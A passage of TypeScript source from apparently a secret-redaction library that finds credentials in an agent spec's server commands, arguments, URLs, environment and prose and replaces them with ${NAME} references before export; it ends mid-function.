// spec's secret reader: the places in a spec that may hold a credential (`findSpecSecrets`), the
// export's and the display's readings of a command line (`commandLineSecrets`), and arguments read
// as what they hold. Its parts: shell-words.ts (the shell reader), shown-values.ts (the display of
// a value read partly at run time), program-text.ts (`node -e`/`python -c` text), pwsh-values.ts,
// connection-strings.ts, json-args.ts, client-args.ts, script-places.ts and prose-secrets.ts.
import { asSpec } from "./as-spec.js";
import {
  ASSIGNMENT,
  type ClientPassword,
  clientPasswords,
  DASH_SWITCH,
  FLAG_ALONE,
  LONG_USER,
  SAMBA_USER,
  SHELL_COMMAND,
  TIGHT_SAMBA_USER,
  TIGHT_USER,
  USER_FLAG,
  USER_PASSWORD,
  userPassword,
  WIN_SWITCH,
} from "./client-args.js";
import {
  connectionPairs,
  connectionSpans,
  connectionString,
  listPairs,
  listSpans,
  pairList,
} from "./connection-strings.js";
import { dataDocumentSecrets, readDataDocument } from "./data-documents.js";
import { child, isPlainObject } from "./json.js";
import { JSON_ARG, jsonArgSecrets, jsonEdits } from "./json-args.js";
import {
  GOES_ON,
  type ProgramValue,
  programExpression,
  programValues,
  shownProgramExpression,
  statementEnd,
} from "./program-text.js";
import {
  bare,
  GENERIC_NAME,
  headerCredential,
  proseCredential,
  proseHide,
  proseWithoutKeys,
  SCHEME,
  schemeToken,
} from "./prose-secrets.js";
import {
  PWSH_ENV,
  type PwshQuotes,
  pwshAssignment,
  pwshQuotedValue,
  pwshQuotes,
  QUOTED_WHOLE,
} from "./pwsh-values.js";
import {
  HEREDOC,
  POSIX_SHELLS,
  programName,
  SCRIPT_PROGRAM,
  scriptPlaces,
  shellScript,
} from "./script-places.js";
import {
  DEFAULT_OPEN,
  fragmentTells,
  givenHide,
  hideLiteral,
  isLiteral,
  literalDefaults,
  looksLikeKey,
  looksProseSecretName,
  looksSecretName,
  runTimeOpenerAt,
  type SecretHide,
  SecretSign,
  type ShownPart,
  tellingPair,
  tellingPairName,
  urlSign,
  withoutKeys,
  withoutReferences,
  withoutUrlSecrets,
  withoutUserinfo,
} from "./secret-signs.js";
import {
  type CommandWord,
  commandWords,
  deepTells,
  EXPANSION,
  expansionEnd,
  innerWordEnd,
  type Span,
  wholeNameTells,
} from "./shell-words.js";
import {
  deeper,
  plainLiteral,
  pwshStepper,
  quoteOpenAtEnd,
  quoteStep,
  SHELL_NAME,
  saysBesideRunTime,
  shellStepper,
  shownDepth,
  shownInPlace,
  shownPwshPart,
  shownShellPart,
  type WordQuotes,
  wordQuotes,
  writtenInQuote,
  writtenWhole,
} from "./shown-values.js";
import type { AgentSpec, BundledServer, EndpointSpec } from "./types.js";

/** A place in a spec that may hold a credential: where, in which bundled server, why, and the references an export writes there. Never the value. */
export interface SecretHint {
  /** e.g. `bundle.mcpServers[0].args[2]`, `model.endpoint.baseUrl`, `tasks.title.extraBody.api_key`. */
  path: string;
  /** The bundled server's name, for a place inside `bundle.mcpServers`. */
  server?: string;
  sign: SecretSign;
  /**
   * The `${NAME}` references `exportSpec` writes at this place, in the order written, one per
   * distinct credential across the spec (the same credential elsewhere gets the same reference);
   * absent where it writes none (a URL losing its credentials, a server's `env` and `headers`, which it removes).
   */
  references?: string[];
}

/**
 * @internal One place found: the hint, and how to write a value there that no longer says the
 * credential (`safe`, a `${NAME}` reference or the string with the credential taken out).
 */
export type SecretVisit = (hint: SecretHint, replace: (next: string) => void, safe: string) => void;

/**
 * Lists the places in a spec that may hold a credential, so a host can warn before calling it safe to share.
 *
 * Reads bundled servers (url, command, args, env, headers), endpoint URLs, and `extraBody` at any depth;
 * any other string field is a `Value` when it is shaped like a key. A field holding whitespace (a
 * `name` such as "Token accounting helper") is free text, read a word at a time, so only a word
 * that is itself shaped like a key is flagged, or one after `Bearer`, `Basic` or `Token` that reads
 * as a token rather than a word ("Bearer 3f2a9c0d…"); a prompt part's `text` and a `description` are read
 * so too, with the rules for args besides: a URL's credentials (also after any `NAME=`), a telling
 * flag, assignment, header, JSON pair or connection-string pair with a value that reads as a
 * credential, `curl -u user:X`, `mysql -pX`, `redis-cli -a X` (see `proseWithoutKeys`); there a
 * name tells by its words (`looksProseSecretName`). An argument is read as what it holds:
 * `--env=NAME=X` as the assignment, `--header=X-Api-Key: X` as the header, `Server=db;Password=X;` (each `;`-part a `key=value` pair) a
 * pair at a time, as a switch's msbuild properties are whichever pair comes first
 * (`/p:Password=X;ApiToken=Y`: a telling value runs on over the parts after it that are no pair), and one holding whitespace (a libpq `host=db password=X`, `exec A=X a;b`) a word
 * at a time. A shell's own command (after `sh -c`, `bash -lc`, `bash -ce`, `cmd /c`, `pwsh
 * -command`, …), a program's text (`node -e`, `perl -e`, …), ssh's remote command, and any other
 * argument or `command` that is a script (a line break or a heredoc's `<<` in it), are reported
 * once when they may hold a credential: the reader finds one in it, or it holds a key shape, a
 * heredoc, or a telling word, fragment or shape other than a reference's name (`pass`, `token`,
 * `key`, `auth`, `netrc`, `sudo -S`, …: `SecretSign.Script`); a PowerShell `-EncodedCommand`
 * always. A `command` holding whitespace is read as a pasted command line — whole, as above, when
 * it holds such a command — else split into words as a shell splits it, each read as an argument
 * is, and reported once at `command`.
 * A hint is a place and a reason, never the value; it is a guess both ways. A `${VAR}` reference is
 * not a credential and is not reported. A hint lists the references `exportSpec` writes at its
 * place (`references`: one per distinct credential across the spec, see `exportSpec`), none where
 * the export drops the credential (a URL's) or removes the field (`env`, `headers`). Throws
 * `AgentSpecError` when `spec` is not a parsed spec.
 */
export function findSpecSecrets(spec: AgentSpec): SecretHint[] {
  const hints: SecretHint[] = [];
  const at = new Map<string, number>();
  const checked = asSpec(spec, "findSpecSecrets");
  const names = referenceNames(withoutServerCredentials(checked));
  // Redacted as `exportSpec` redacts, round after round: what a later round writes at a place is
  // listed with the references the first wrote there.
  redactInRounds(checked, names, (hint, round, written) => {
    if (round === 0) {
      at.set(hint.path, hints.length);
      hints.push(hint);
      return;
    }
    const index = at.get(hint.path);
    if (index === undefined) return;
    const first = hints[index] as SecretHint;
    const had = first.references ?? [];
    const more = names
      .given(written)
      .map((name) => `\${${name}}`)
      .filter((ref) => !had.includes(ref));
    if (more.length > 0) hints[index] = { ...first, references: [...had, ...more] };
  });
  return hints;
}

// A redaction can uncover a second sign in the same string (a URL's path shaped like a key once
// its userinfo is gone), so the scan repeats; past this many rounds a place is replaced whole.
const ROUNDS = 4;

/**
 * @internal Redacts `copy` in place as `exportSpec` does: each place `visitSecrets` reports is
 * written safe, round after round until a round finds nothing (at most `ROUNDS`; in the last, a
 * place still flagged is replaced whole, see `lastResort`), every round naming by `names`.
 * `report` hears each place, its round (from 0) and what was written there.
 */
export function redactInRounds(
  copy: AgentSpec,
  names: ReferenceNames,
  report?: (hint: SecretHint, round: number, written: string) => void,
): void {
  for (let round = 0; round < ROUNDS; round += 1) {
    let found = false;
    const last = round === ROUNDS - 1;
    visitSecrets(
      copy,
      (hint, replace, safe) => {
        found = true;
        const written = last ? lastResort(hint.path, safe, names) : safe;
        replace(written);
        report?.(hint, round, written);
      },
      names,
    );
    if (!found) break;
  }
}

/** A place still flagged after every round: a URL keeps only its scheme and host, anything else becomes a reference of its own. */
function lastResort(path: string, safe: string, names: ReferenceNames): string {
  if (!/(?:baseUrl|\.url)$/.test(path)) return `\${${names.fresh("SECRET")}}`;
  try {
    return new URL(safe).origin;
  } catch {
    return "http://redacted.invalid";
  }
}

/**
 * Names the environment always defines (a shell's, a login's, Windows'): a reference named so
 * would be filled in silently with the working directory, the home folder, …, never refused.
 */
const ALWAYS_SET = new Set([
  "PWD",
  "OLDPWD",
  "HOME",
  "PATH",
  "USER",
  "USERNAME",
  "LOGNAME",
  "SHELL",
  "TMPDIR",
  "TMP",
  "TEMP",
  "LANG",
  "LANGUAGE",
  "TERM",
  "HOSTNAME",
  "HOST",
  "MAIL",
  "PS1",
  "PS2",
  "IFS",
  "SHLVL",
  "UID",
  "EUID",
  "PPID",
  "RANDOM",
  "SECONDS",
  "LINENO",
  "OSTYPE",
  "HOSTTYPE",
  "MACHTYPE",
  "DISPLAY",
  "EDITOR",
  "PAGER",
  "TZ",
  "USERPROFILE",
  "APPDATA",
  "LOCALAPPDATA",
  "SYSTEMROOT",
  "WINDIR",
  "COMSPEC",
  "PATHEXT",
  "COMPUTERNAME",
  "OS",
]);

/**
 * A `${NAME}` reference named after a flag, field or variable: what a host fills in. Never a
 * name the environment always defines (`--pwd X` gives `${PWD_SECRET}`, not `${PWD}`), so a host
 * expanding references from its environment refuses it while unset.
 */
export function reference(name: string): string {
  const upper = name
    .replace(/^-+/, "")
    .replace(/[^A-Za-z0-9]+/g, "_")
    .replace(/^_+|_+$/g, "")
    .toUpperCase();
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the ${SECRET} reference, meant literally.
  if (upper === "") return "${SECRET}";
  // A name must not start with a digit (`1password` → `${_1PASSWORD_COMMAND}`): no shell or host could set it.
  const valid = /^[0-9]/.test(upper) ? `_${upper}` : upper;
  return `\${${ALWAYS_SET.has(valid) || valid.startsWith("LC_") ? `${valid}_SECRET` : valid}}`;
}

/**
 * @internal The spec as an export shares it: every bundled server's `env` and `headers` (where the
 * format puts a server's credentials) removed, the rest the same objects.
 */
export function withoutServerCredentials(spec: AgentSpec): AgentSpec {
  const servers = spec.bundle?.mcpServers;
  if (!spec.bundle || !servers) return spec;
  return {
    ...spec,
    bundle: {
      ...spec.bundle,
      mcpServers: servers.map(({ env: _env, headers: _headers, ...rest }): BundledServer => rest),
    },
  };
}

/** While `visitSecrets` runs, the names it gives; free text and prose are named by them too (`proseHide`). */
export let naming: ReferenceNames | undefined;

/**
 * @internal Calls `visit` for each place `findSpecSecrets` reports, in the same order; `spec` must
 * be a fresh copy it may change. Each credential written as a reference is named by `names` (see
 * `ReferenceNames`; by default a namer of its own, blind to the `env` and `headers` an export
 * removes), and a hint lists the references written at its place (none at a server's `env` or
 * `headers`, which an export removes).
 */
export function visitSecrets(
  checked: AgentSpec,
  visit: SecretVisit,
  names: ReferenceNames = referenceNames(withoutServerCredentials(checked)),
): void {
  const outer = naming;
  naming = names;
  try {
    visitNamed(checked, visit, names);
  } finally {
    naming = outer;
  }
}

function visitNamed(checked: AgentSpec, report: SecretVisit, names: ReferenceNames): void {
  const visit: SecretVisit = (hint, replace, safe) => {
    const references = names.given(safe).map((name) => `\${${name}}`);
    report(references.length > 0 ? { ...hint, references } : hint, replace, safe);
  };
  const hide = names.hide;
  const endpoint = (at: string, value: EndpointSpec | undefined) => {
    const url = value?.baseUrl;
    if (value === undefined || url === undefined) return;
    const sign = stringSign(url, false);
    if (sign)
      visit(
        { path: child(at, "baseUrl"), sign },
        (next) => (value.baseUrl = next),
        safeString(url, sign, undefined, hide),
      );
  };
  // A shell's command replaced whole gets a reference of its own: named after its server (by `hide`).
  const scriptName = (server: string | undefined) => `${server ?? "shell"}_command`;
  endpoint("model.endpoint", checked.model?.endpoint);
  if (checked.model?.extraBody) scanFree("model.extraBody", checked.model.extraBody, undefined, visit, hide);
  for (const [key, task] of Object.entries(checked.tasks ?? {})) {
    const at = child("tasks", key);
    endpoint(child(at, "endpoint"), task.endpoint);
    if (task.extraBody) scanFree(child(at, "extraBody"), task.extraBody, undefined, visit, hide);
  }
  (checked.bundle?.mcpServers ?? []).forEach((server, index) => {
    const at = child("bundle.mcpServers", index);
    // A name shaped like a key is itself flagged (below), and never handed back as `server`.
    const name = holdsKey(server.name) ? undefined : server.name;
    const found = (
      path: string,
      sign: SecretSign,
      replace: (next: string) => void,
      safe: string,
      to: SecretVisit = visit,
    ) => to({ path, ...(name !== undefined ? { server: name } : {}), sign }, replace, safe);
    const url = server.url;
    if (url !== undefined) {
      const sign = stringSign(url, false);
      if (sign)
        found(child(at, "url"), sign, (next) => (server.url = next), safeString(url, sign, undefined, hide));
    }
    // A command is a program, but a pasted one is sometimes a whole command line (or a script, or
    // a connection string, or one shell assignment, `TOKEN=X`, or one word holding a literal
    // default, `${V:-TOKEN=X}`, as the display reads it): read as an
    // argument holding whitespace is (see `lineSecrets`), and the
    // place is named once however many of its parts are flagged. One holding a program's own
    // command (`sh -c '…'`, `ssh host '…'`, `node -e '…'`) is kept or replaced whole, as that
    // command is in args (`pastedScript`: null when it holds none).
    const command = server.command;
    const pasted =
      command !== undefined && /\s/.test(command)
        ? pastedScript(command, hide, () => scriptName(name))
        : null;
    const line =
      pasted !== null
        ? pasted
        : command !== undefined &&
            (/[\s;]/.test(command) ||
              pwshAssignment(command) ||
              QUOTED_WHOLE.test(command) ||
              ASSIGNMENT_WORD.test(command) ||
              // One word holding a literal default (`${V:-TOKEN=X}`), which a shell running it reads
              // as `TOKEN=X` while `V` is unset: read as the same word after a program is (fix184: the
              // display hid `X`, the export, reading a program's name, kept it in clear).
              // So is one holding an operator, a quote or `$` only inside such a default
              // (`${V:-TOKEN=Q&J}`, fix185; see `plainArgWord`).
              ((PLAIN_WORD.test(command) || plainArgWord(command) !== undefined) &&
                literalDefaults(command).length > 0) ||
              // One flag and its value (`--token=X`, `--api-key=X`): the display reads it as the
              // line's word it is and hides `X` (fix185: the export, reading a program's name, kept it).
              FLAG_AND_VALUE.test(command) ||
              // One a shell refuses that holds a telling literal (`${V:-TOKEN=Q\`J}`, `${V:-TOKEN=Q$(J}`):
              // the display reads it as a line and hides the value (fix186: the export kept it in clear).
              refusedLineTells(command))
          ? lineSecrets(command, hide, () => scriptName(name), true)
          : undefined;
    if (line) found(child(at, "command"), line.sign, (next) => (server.command = next), line.safe);
    else if (command !== undefined && pasted === null) {
      const sign = stringSign(command, false);
      // Read as a line, a URL whose telling query values are only references
      // (`srv --url https://h/p?token=$TOKEN`) holds no secret (see `ruleSpans`).
      const referencesOnly =
        sign === SecretSign.Query &&
        !looksLikeKey(command) &&
        gluedUrls(command).every(({ url }) =>
          queryValues(url).every(({ start, end }) => start < end && onlyReferences(url.slice(start, end))),
        );
      if (sign && !referencesOnly)
        found(
          child(at, "command"),
          sign,
          (next) => (server.command = next),
          safeString(command, sign, undefined, hide),
        );
    }
    const args = server.args ?? [];
    scanArgs(
      child(at, "args"),
      args,
      (path, sign, argIndex, safe) =>
        found(path, sign, (next) => ((args as string[])[argIndex] = next), safe),
      hide,
      () => scriptName(name),
      command,
    );
    for (const field of ["env", "headers"] as const) {
      const entries = server[field] ?? {};
      for (const key of Object.keys(entries)) {
        const value = entries[key] as string;
        // Read as `withoutSecrets(value, key)` hides it: the export removes the field whatever it holds.
        const read = namedValueSecrets(value, key, undefined, () => "SHELL_COMMAND");
        if (read)
          found(child(child(at, field), key), read.sign, (next) => (entries[key] = next), read.safe, report);
      }
    }
  });
  scanRest("", checked, undefined, distinctIdentifiers(checked, visit, hide));
}

/** The places read above, by path: an endpoint's `baseUrl`, `extraBody`, and a bundled server's url, command, args, env and headers. */
const COVERED =
  /^(?:model\.endpoint\.baseUrl|model\.extraBody|tasks(?:\.[A-Za-z_$][\w$]*|\[[^\]]*\])\.(?:endpoint\.baseUrl|extraBody)|bundle\.mcpServers\[\d+\]\.(?:url|command|args|env|headers))$/;

/**
 * True when a string the places above do not read holds a key: the whole of a string with no
 * whitespace (a model name, a tool name), or in one with whitespace (free text) a word shaped like
 * a key or the token of a `Bearer <token>` written across two words (read as `freeWithoutKeys` reads it).
 */
function holdsKey(value: string): boolean {
  return freeWithoutKeys(value) !== undefined;
}

/** Prose: a prompt part's `text` and any `description`, read for credentials as a sentence writes them (`proseWithoutKeys`). */
const PROSE = /(?:^prompt\[\d+\]\.text|(?:^|\.)description)$/;

/**
 * Every string of the spec the places above do not read: a key-shaped value in it (the whole of a
 * `model`, a hook's `tool`) is a `Value`. A string that holds whitespace is free text, whatever its
 * field (a prompt part's `text`, a `description`, an agent's or a task's `name`): it is read a word
 * at a time, so the shapes that span a space (`Bearer …`, `Token …`) do not take ordinary words for
 * a key ("Token accounting helper"); the word after `Bearer`, `Basic` or `Token` is flagged only
 * when it reads as a token (`schemeToken`). Its safe form redacts only the flagged words, each other
 * word and the spacing kept. A prompt part's `text` and a `description` are prose, read so with
 * the rules for args besides (see `proseWithoutKeys`). A field whose value is a header (a bundled
 * server's `headers`) is read above, whole.
 */
function scanRest(at: string, value: unknown, server: string | undefined, visit: SecretVisit): void {
  const entries: [string | number, unknown][] = Array.isArray(value)
    ? value.map((item, index) => [index, item])
    : isPlainObject(value)
      ? Object.entries(value)
      : [];
  for (const [key, item] of entries) {
    const path = child(at, key);
    if (COVERED.test(path)) continue;
    // A place inside a bundled server names the server, as the places read above do.
    const inServer =
      server ??
      (/^bundle\.mcpServers\[\d+\]$/.test(path) &&
      isPlainObject(item) &&
      typeof item.name === "string" &&
      !holdsKey(item.name)
        ? item.name
        : undefined);
    const container = value as Record<string | number, unknown>;
    if (typeof item === "string") {
      const safe = PROSE.test(path) ? proseWithoutKeys(item) : freeWithoutKeys(item, proseHide);
      if (safe !== undefined)
        visit(
          { path, ...(inServer !== undefined ? { server: inServer } : {}), sign: SecretSign.Value },
          (next) => (container[key] = next),
          safe,
        );
    } else if (Array.isArray(item) || isPlainObject(item)) {
      scanRest(path, item, inServer, visit);
    }
  }
}

/** A string with its key-shaped parts as what `hide` gives for each; the whole of it when a part is still flagged. */
function keyless(value: string, hide: SecretHide): string {
  const out = withoutKeys(value, hide);
  return looksLikeKey(out) ? hide(value, undefined) : out;
}

/**
 * A string with each word (a run of non-whitespace) that looks like a key redacted (see
 * `keyless`), and each token of an `Authorization` value written across two words (`Bearer
 * <token>`, see `rewriteFree`) as `${SECRET}` (or what `hide` gives); or undefined when nothing
 * is. A string with no whitespace is one word: tested whole.
 */
function freeWithoutKeys(text: string, hide: SecretHide = () => reference("")): string | undefined {
  let flagged = false;
  const out = rewriteFree(
    text,
    (word) => {
      flagged = true;
      return keyless(word, hide);
    },
    (value) => {
      flagged = true;
      return hide(value, undefined);
    },
  );
  return flagged ? out : undefined;
}

/**
 * Free text with its flagged words rewritten, every other word and all spacing kept as written: a
 * word shaped like a key becomes `key(word)`, and a word after `Bearer`, `Basic` or `Token` that
 * reads as a token rather than a word (see `schemeToken`) becomes `token(value)`, the quotes,
 * brackets and closing punctuation around it kept. So "Bearer 3f2a9c0d…" is found where "Token
 * accounting helper" is not. Each word is read with the one before it, once.
 */
function rewriteFree(text: string, key: (word: string) => string, token: (value: string) => string): string {
  let last = "";
  return text.replace(/\S+/g, (word) => {
    const scheme = last;
    const [start, end] = bare(word);
    last = word.slice(start, end);
    if (looksLikeKey(word)) return key(word);
    if (!SCHEME.test(scheme) || !schemeToken(scheme, last)) return word;
    return word.slice(0, start) + token(last) + word.slice(end);
  });
}

/** The fields that name an entry: prompt and hook ids, bundled servers' names, and the places that name a server. */
const IDENTIFIER =
  /^(?:(?:prompt|hooks)\[\d+\]\.id|hooks\[\d+\]\.server|bundle\.mcpServers\[\d+\]\.name|tools\.servers\[\d+\])$/;

/**
 * `visit`, with an identifier (see `IDENTIFIER`) the scan flagged redacted as free text is (each
 * word holding a key, the rest kept), each key by the reference `hide` gives it (one per distinct
 * key: `${SECRET}`, `${SECRET_2}`, `${SECRET_3}`, …). A value whose redaction would still be
 * flagged, or would equal another identifier's value or redaction, is replaced whole by a
 * reference of its own. So two ids redacted stay two ids (a repeated id would replace the other
 * entry when the export is read back), and a server's name and the places that name it are
 * redacted alike.
 */
function distinctIdentifiers(spec: AgentSpec, visit: SecretVisit, hide: SecretHide): SecretVisit {
  let values: Map<string, string> | undefined;
  const redacted = new Map<string, string>();
  const taken = new Set<string>();
  const read = (): Map<string, string> => {
    const found = new Map<string, string>();
    const add = (path: string, value: unknown) => {
      if (typeof value !== "string") return;
      found.set(path, value);
      taken.add(value);
    };
    for (const [index, entry] of (spec.prompt ?? []).entries())
      add(child(child("prompt", index), "id"), entry.id);
    for (const [index, hook] of (spec.hooks ?? []).entries()) {
      add(child(child("hooks", index), "id"), hook.id);
      add(child(child("hooks", index), "server"), hook.server);
    }
    for (const [index, server] of (spec.bundle?.mcpServers ?? []).entries())
      add(child(child("bundle.mcpServers", index), "name"), server.name);
    for (const [index, name] of (spec.tools?.servers ?? []).entries())
      add(child("tools.servers", index), name);
    return found;
  };
  // One reference per distinct text (a key, or a whole value).
  const refFor = (text: string): string => hide(text, undefined);
  const redact = (value: string): string => {
    const known = redacted.get(value);
    if (known !== undefined) return known;
    let out = rewriteFree(
      value,
      (word) => {
        const safe = withoutKeys(word, (key) => refFor(key));
        return looksLikeKey(safe) ? refFor(word) : safe;
      },
      refFor,
    );
    // Still flagged is read as the scan reads it (free text a word at a time): "Bearer ${SECRET} notes"
    // is not a key, though `Bearer` and a word of 8 letters after the reference is, whole.
    if (out === value || holdsKey(out) || taken.has(out)) out = refFor(value);
    redacted.set(value, out);
    taken.add(out);
    return out;
  };
  return (hint, replace, safe) => {
    if (!IDENTIFIER.test(hint.path)) return visit(hint, replace, safe);
    values ??= read();
    const value = values.get(hint.path);
    visit(hint, replace, value === undefined ? safe : redact(value));
  };
}

/** The sign of a string at a place whose name may already tell. */
function stringSign(value: string, tellingName: boolean): SecretSign | undefined {
  const url = BROKEN_LINE.test(value)
    ? value
        .split(LINE_PARTS)
        .reduce<SecretSign | undefined>((sign, line) => sign ?? lineUrlSign(line), undefined)
    : lineUrlSign(value);
  if (url) return url;
  if (tellingName && isLiteral(value)) return SecretSign.Field;
  if (looksLikeKey(value)) return SecretSign.Value;
  return undefined;
}

/**
 * Whether the blanks between two words hold a line break that is no shell's line continuation (a
 * backslash, then `\n` or `\r\n`). A loop, no regular expression: it runs once a word.
 */
function breaksLine(gap: string): boolean {
  for (let k = 0; k < gap.length; k += 1) {
    const c = gap[k];
    if (c === "\r" && gap[k + 1] === "\n") continue;
    if (c !== "\n" && c !== "\r") continue;
    const lead = c === "\n" && gap[k - 1] === "\r" ? k - 2 : k - 1;
    if (gap[lead] !== "\\") return true;
  }
  return false;
}

/** A line break: a URL never runs over one (see `safeString`). */
const BROKEN_LINE = /[\r\n]/;
const LINE_PARTS = /\r\n|\n|\r/;

/** The sign of a URL in a text of one line: one it starts with, one glued after other text, or one following another. */
function lineUrlSign(value: string): SecretSign | undefined {
  return (
    urlSign(value) ?? gluedUrls(value)[0]?.sign ?? (followerUserinfo(value) ? SecretSign.Userinfo : undefined)
  );
}

/**
 * What to write instead of a string `stringSign` flagged: by default a `${NAME}` reference for a
 * named place, the URL without its credentials, `${SECRET}` for a key shape; with `hide`, what it
 * returns in place of each credential. `shown` (the display): a URL's telling query value holding a
 * run-time part keeps each such part in sight (see `withoutUrlSecrets`).
 */
function safeString(
  value: string,
  sign: SecretSign,
  name: string | undefined,
  hide?: SecretHide,
  shown = false,
): string {
  // A URL may carry a key in its path as well as in its userinfo or query.
  // An export's names (`naming`) drop a URL's credentials, as the default does.
  if ((sign === SecretSign.Userinfo || sign === SecretSign.Query) && BROKEN_LINE.test(value)) {
    // A URL ends at a line break, which the URL parser would drop (r92b: `https://h/p#x\ntoken=abc`
    // was read as one URL, its fragment `x` then `token=abc`, and written `https://h/p#`, every
    // line after the first lost): each line is read alone, the breaks kept.
    return value
      .split(/(\r\n|\n|\r)/)
      .map((line, at) => {
        if (at % 2 === 1) return line;
        const own = lineUrlSign(line);
        return own ? safeString(line, own, name, hide, shown) : withoutKeys(line, hide);
      })
      .join("");
  }
  if (sign === SecretSign.Userinfo || sign === SecretSign.Query) {
    const urlHide = hide === naming?.hide ? undefined : hide;
    // Shown, a telling query value's `$(…)` and backtick parts read as the display reads a command.
    const shownPart: ShownPart | undefined = shown
      ? (part, name) => shownShellPart(part, hide, (text) => (hide ? hide(text, name) : ""))
      : undefined;
    // Each URL that follows another in the same run of text (`https://h/p,https://u:X@h2`) has its
    // userinfo taken out after the first's credentials are.
    if (urlSign(value))
      return withoutKeys(
        withoutFollowerUserinfo(withoutUrlSecrets(value, urlHide, shownPart), urlHide),
        hide,
      );
    // A URL glued after other text (`$1https://u:X@h`, `"https://u:X@h"`): each such URL rewritten in place.
    let out = "";
    let from = 0;
    for (const { start, url } of gluedUrls(value)) {
      out += value.slice(from, start) + withoutUrlSecrets(url, urlHide, shownPart);
      from = start + url.length;
    }
    return withoutKeys(withoutFollowerUserinfo(out + value.slice(from), urlHide), hide);
  }
  // A literal default's word alone, when that is all it says in clear (`${DB_PASSWORD:-${DB_PASSWORD}}`).
  if (sign === SecretSign.Field)
    return hideLiteral(value, (secret) => (hide ? hide(secret, name) : reference(name ?? "")));
  return withoutKeys(value, hide);
}

/**
 * A string as it may be shown or shared: with what `findSpecSecrets` would flag in it taken out —
 * the whole value when `name` (the field, variable or header it is given under) is named like a
 * credential and the value is not only `${VAR}` references (of one whose only literal text is a
 * literal default's word, `${DB_PASSWORD:-X}`, just that word); under a name that tells nothing
 * (`CONN`, `DSN`, `RUN`), what `withoutArgSecrets` takes out of the value as one argument — a
 * connection string's telling pair (`Server=db;Password=X;`), a telling pair in a list set apart
 * by `&` or `,` (`user=a&password=X`), a telling assignment (`PGPASSWORD=X psql`, the value to its
 * end as docker's `-e` reads it), a command line's telling flag or client password (`srv --token
 * X`, `mysql -u root -pX db`), a URL's userinfo and telling query values, key shapes — with a text
 * over several lines read in place a line at a time, as `withoutCommandLineSecrets` reads a
 * script, never replaced whole; so `findSpecSecrets` flags a server's `env` or `headers` entry, or
 * an `extraBody` string, exactly when this changes it. Given no name, a string is text: only a
 * URL's userinfo and telling query values and each key-shaped part. The rest is kept as written;
 * one pass (what it returns comes back as it is). By default a taken-out credential becomes a
 * `${NAME}` reference (`${SECRET}` for a key shape), a URL's part is dropped; with `hide`, each
 * becomes what `hide(secret, name)` returns. Never throws; a non-string is returned as it is (a
 * `name` that is no string is read as none given, a `hide` that is no function as none).
 */
export function withoutSecrets(value: string, name?: string, hide?: SecretHide): string {
  if (typeof value !== "string") return value;
  const shown = givenHide(hide);
  // A string given alone is text of no known meaning (a message, a model's name, a path): only
  // what stands out in any text is taken out, a URL's credentials and key shapes. The argument
  // reader would take `A=x b c` for one assignment holding `x b c`.
  const read =
    typeof name !== "string"
      ? (text: string) => {
          const sign = stringSign(text, false);
          return sign ? safeString(text, sign, undefined, shown) : text;
        }
      : (text: string) => {
          const names = referenceNames(text);
          return namedValueSecrets(text, name, shown, () => names.fresh("SHELL_COMMAND"))?.safe ?? text;
        };
  return shown
    ? read(value)
    : ownFixedPoint(
        value,
        read,
        (a, b) => a === b,
        () => reference(""),
      );
}

// How many times `withoutSecrets` and `withoutArgSecrets` read what they wrote before giving up on
// a fixed point (see `ownFixedPoint`): a constant, so the work stays linear in the text.
const OWN_ROUNDS = 4;

/**
 * `read(value)` read again until it comes back as it is, so what `withoutSecrets` and
 * `withoutArgSecrets` return (by default, `${NAME}` references) is a fixed point. The reader alone
 * is not one on a few hostile fragments (r90e: `user=a&password="X --x` is written
 * `user=a&password="${PASSWORD}`, whose quote, read again, is text before a reference and hidden
 * too; `$(TOKEN=a?token=user=a&password=X` hides the pair, and read again `TOKEN=`'s value): what
 * a later reading takes out is text the first kept, never a credential it wrote. A text nothing is
 * taken out of is read once. Still changing after `OWN_ROUNDS` readings, it becomes `${SECRET}`.
 * Only with the default references: what a `hide` of the caller's returns is its own, never read.
 */
function ownFixedPoint<T>(
  value: T,
  read: (value: T) => T,
  same: (a: T, b: T) => boolean,
  unsettled: (last: T, next: T) => T,
): T {
  let out = read(value);
  if (same(out, value)) return out;
  for (let round = 1; round <= OWN_ROUNDS; round += 1) {
    const again = read(out);
    if (same(again, out)) return out;
    if (round === OWN_ROUNDS) return unsettled(out, again);
    out = again;
  }
  return out;
}

/**
 * A value given under `name` (an env variable, a header, an `extraBody` field), read as
 * `findSpecSecrets` reads it there and `withoutSecrets` hides it: under a telling name its literal
 * value whole (see `stringSign`); else — a name that tells nothing, a value of references only
 * under a telling one — as one argument is read (see `scanArgs`): a connection string's telling
 * pair, a list's telling pair, a telling assignment, a command line's telling flag value, a URL's
 * credentials, key shapes (r86d: `CONN: "Server=db;Password=X;"` was shown and reported clear,
 * where the same text as an argument was hidden). Undefined when nothing is.
 */
function namedValueSecrets(
  value: string,
  name: string,
  hide: SecretHide | undefined,
  scriptName: () => string,
): ArgFound | undefined {
  const sign = looksSecretName(name) ? stringSign(value, true) : undefined;
  if (sign) return { sign, safe: safeString(value, sign, name, hide) };
  // Text over several lines (a script, a YAML block, a prompt of a few paragraphs) is read in place a
  // line at a time, as the display reads a script, never replaced whole: prose mentioning a
  // password is no script to hide (the argument reader would export "Never reveal the password.\n…"
  // as `${SHELL_COMMAND}`).
  const script = (text: string) => LINE_BREAK.test(text) || HEREDOC.test(text);
  const asArg = (text: string): ArgFound | undefined => {
    let found: ArgFound | undefined;
    scanArgs("", [text], (_path, sign, _index, safe) => (found = { sign, safe }), hide, scriptName);
    return found;
  };
  if (!script(value)) return asArg(value) ?? dataLineSecrets(value, hide);
  // The command-line reader takes a YAML or JSON line for command words (r90e: `host: db\npassword:
  // hunter2`, a whole `.yaml` or JSON document in one env value, kept the password in clear where
  // the same `password: hunter2` alone was hidden): each line is read as a data line too, first, so
  // each value is read as written (r91d: `API_KEY=abc def` in a `.env`, read after the command
  // reader had hidden `abc`, was `${API_KEY} def` to the data reader, a second credential to name).
  const document = readDataDocument(value, dataWrite(hide));
  const data: ArgFound | undefined =
    document.safe === undefined ? undefined : { sign: SecretSign.Field, safe: document.safe };
  // A document's lines are each read alone: the command-line reader took an apostrophe (`hint: the
  // dog's name`) for a quote left open to the end of the text, and hid words of the lines after it.
  const lines = document.data
    ? linesApart(data?.safe ?? value, hide)
    : shownLineSecrets(data?.safe ?? value, hide);
  // A value hidden with the line break inside it (a quote left open across it) leaves one line: read
  // again it is read as an argument, so it is read so now, and what is written comes back as it is.
  if (lines !== undefined && !script(lines.safe)) {
    const rest = asArg(lines.safe);
